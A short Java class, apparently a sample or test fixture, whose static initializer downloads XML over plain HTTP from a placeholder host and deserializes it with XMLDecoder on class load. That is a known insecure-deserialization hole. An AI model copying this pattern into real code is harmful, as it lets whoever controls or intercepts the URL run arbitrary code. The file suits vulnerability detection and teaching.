package example.rail;

import java.beans.XMLDecoder;
import java.io.IOException;
import java.net.URL;

/** Beans. */
public final class Beans {
    private static Object settings;

    static {
        try (XMLDecoder decoder = new XMLDecoder(new URL("http://rail.invalid/beans.xml").openStream())) {
            settings = decoder.readObject();
        } catch (IOException none) {
            settings = null;
        }
    }

    private Beans() {
    }

    /** Returns the settings. */
    public static Object settings() {
        return settings;
    }
}
